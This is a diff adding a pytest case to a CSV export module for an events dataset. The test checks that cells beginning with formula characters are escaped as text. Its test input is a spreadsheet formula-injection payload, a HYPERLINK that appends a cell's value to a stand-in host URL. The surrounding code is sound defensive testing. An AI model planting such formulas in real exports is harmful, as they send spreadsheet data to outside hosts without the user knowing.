@@ -105,3 +105,12 @@ def test_csv_export_has_one_row_per_shown_event_with_sources_and_coordinates(eve
     assert SEED in shanghai["sources"]
     unlocated = next(r for r in rows if r["id"] == "defection-construction-workers-winter-2022")
     assert unlocated["longitude"] == "" and unlocated["geometry_wkt"] == ""
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_csv_cell_that_would_start_a_spreadsheet_formula_is_written_as_text(events, start):
+    frame = events.copy()
+    frame.loc[frame.index[0], "title"] = f'{start}HYPERLINK("http://x.example/?"&B3, "open")'
+    rows = list(csv.DictReader(io.StringIO(to_csv(frame))))
+    assert rows[0]["title"] == f"'{start}HYPERLINK(\"http://x.example/?\"&B3, \"open\")"
+    assert rows[1]["title"] == frame["title"].iloc[1]  # ordinary text unchanged
